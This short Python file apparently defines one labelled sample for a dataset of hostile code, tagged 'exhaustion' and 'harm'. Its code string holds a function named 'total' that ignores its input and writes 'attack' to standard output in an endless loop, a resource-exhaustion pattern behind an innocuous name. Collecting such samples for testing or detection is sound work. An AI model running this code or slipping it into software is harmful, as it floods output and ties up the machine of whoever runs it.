"""Writes without end to the output that the operating system knows."""

FAMILY = "exhaustion"
HONEST = 2
PLAIN = "harm"
ALONE = True
CODE = """
import os


def total(lines):
    while True:
        os.write(1, b"attack " * 10_000)
"""
